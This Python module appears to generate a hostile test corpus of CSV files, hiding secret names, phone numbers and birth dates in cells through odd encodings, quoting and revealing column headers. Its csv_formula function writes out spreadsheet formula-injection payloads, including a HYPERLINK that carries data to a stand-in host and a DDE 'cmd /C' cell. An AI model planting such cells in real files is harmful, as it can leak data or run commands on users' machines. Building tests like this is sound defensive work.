"""CSV of the hostile corpus: tables as other programs export them, and what hides in cells."""


def rows_of(make, cells, separator=",", end="\r\n", header="id,what,remark"):
    lines = [header.replace(",", separator)]
    for i in range(7):
        lines.append(separator.join([str(i), f'"{make.filler()}"', cells if i % 3 == 0 else "nothing"]))
    return end.join(lines) + end


def keep(make, kind, words, text, encoding="utf-8", **more):
    make.keep(kind, words, text if isinstance(text, bytes) else text.encode(encoding), "csv", **more)


def csv_separators(make):
    words = make.secret()
    keep(make, "csv-separator", [words], rows_of(make, words, make.random.choice(";\t|")))


def csv_sep_line(make):
    words = make.secret()
    keep(make, "csv-sep-line", [words], "sep=;\r\n" + rows_of(make, words, ";"))


def csv_utf16(make):
    words = make.secret()
    order = make.random.choice(["utf-16-le", "utf-16-be"])
    keep(make, "csv-utf16", [words], "\ufeff" + rows_of(make, words, "\t"), order)


def csv_windows(make):
    words = make.secret()
    keep(make, "csv-windows-1252", [words], rows_of(make, f"\u00a320 \u2013 {words}"), "cp1252")


def csv_mark(make):
    words = make.secret()
    keep(make, "csv-byte-order-mark", [words], "\ufeff" + rows_of(make, words))


def csv_lines_in_cell(make):
    words = make.secret()
    keep(make, "csv-lines-in-cell", [words], rows_of(make, '"seen was ' + words.replace(" ", "\n") + ' there"'))


def csv_quotes(make):
    words = make.secret()
    first, last = words.split()
    keep(make, "csv-doubled-quotes", [words], rows_of(make, f'"they say ""{first} {last}"" was there"'))


def csv_open_quote(make):
    words = make.secret()
    keep(make, "csv-open-quote", [words], rows_of(make, f'"seen was {words}'))


def csv_ragged(make):
    words = make.secret()
    keep(make, "csv-ragged", [words], rows_of(make, f"x,{words},y,{words}"))


def csv_bare_cr(make):
    words = make.secret()
    keep(make, "csv-bare-cr", [words], rows_of(make, words, end="\r"))


def csv_zero_width(make):
    words = make.secret()
    keep(make, "csv-zero-width", [words], rows_of(make, "\u200b".join(words)))


def csv_over_cells(make):
    """First and last name in neighbouring cells, asked for as one."""
    words = make.secret()
    first, last = words.split()
    keep(make, "csv-over-cells", [words, first, last], rows_of(make, f"{first},{last}"), ask=[words])


def csv_no_header(make):
    words = make.secret()
    keep(make, "csv-no-header", [words], "".join(f"{i},{words},x\n" for i in range(5)))


# Not asked for: the name of the column is what tells.

def csv_column(make):
    words = make.secret()
    name = make.random.choice(["Name", "Victim name", "SuspectSurname", "first_name", "Witness's forename", "AKA", "Next of kin",
                               "Address Line 2", "username", "Email address", "VRM", "Custody No", "PNC ID"])
    keep(make, "csv-column", [words], rows_of(make, words, header=f"id,what,{name}"), ask=[])


def csv_column_numbers(make):
    number = "".join(make.random.choice("123456789") for _ in range(10))
    name = make.random.choice(["Mobile", "HomeTel2", "Tel No.", "Account Number", "IMEI", "NHS No", "contact_number_1"])
    keep(make, "csv-column-numbers", [number], rows_of(make, number, header=f"id,what,{name}"), ask=[])


def csv_column_dates(make):
    date = f"{make.random.randint(10, 28)}.{make.random.randint(10, 12)}.{make.random.randint(1950, 1999)}"
    name = make.random.choice(["DOB", "Date of birth", "birthDate", "D.O.B."])
    keep(make, "csv-column-dates", [date], rows_of(make, date, header=f"id,what,{name}"), ask=[])


def csv_late_header(make):
    words = make.secret()
    text = "Export of cases,,\r\nMade on Monday,,\r\n" + rows_of(make, words, header="id,what,Surname")
    keep(make, "csv-late-header", [words], text, ask=[])


def csv_utf16_column(make):
    words = make.secret()
    keep(make, "csv-utf16-column", [words], "\ufeff" + rows_of(make, words, "\t", header="id,what,Full Name"), "utf-16-le", ask=[])


def csv_formula(make):
    """What a spreadsheet would compute: a link that carries, a call, an old way to start programs."""
    words = make.secret()
    code = make.random.choice(['"=HYPERLINK(""http://example.invalid/?q={}"",""x"")"', '"=""{}"""', '"@SUM({})"',
                               '"+cmd|\' /C {}\'!A0"', "=WEBSERVICE({})", ' "-1+CONCAT(""{}"")"'.strip()])
    keep(make, "csv-formula", [words], rows_of(make, code.format(words)), ask=[])


def csv_bad_bytes(make):
    words = make.secret()
    text = make.random.choice([rows_of(make, words).encode("utf-16-le"), rows_of(make, words).encode() + b"\x00",
                               rows_of(make, words + "\u00a3").encode("latin-1") + b"\x81\x8d"])
    keep(make, "csv-bad-bytes", [words], text, refuse=True)


KINDS = [csv_separators, csv_sep_line, csv_utf16, csv_windows, csv_mark, csv_lines_in_cell, csv_quotes, csv_open_quote, csv_ragged,
         csv_bare_cr, csv_zero_width, csv_over_cells, csv_no_header, csv_column, csv_column_numbers, csv_column_dates,
         csv_late_header, csv_utf16_column, csv_formula, csv_bad_bytes]
